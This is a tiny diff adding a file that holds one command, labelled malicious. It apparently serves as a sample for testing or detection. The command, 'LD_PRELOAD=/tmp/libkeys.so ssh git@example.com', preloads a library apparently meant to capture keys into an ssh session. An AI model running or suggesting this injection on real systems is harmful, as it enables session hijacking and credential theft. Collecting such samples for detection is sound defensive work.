@@ -1,0 +1,2 @@
+# malicious: starts ssh with a library that listens
+LD_PRELOAD=/tmp/libkeys.so ssh git@example.com
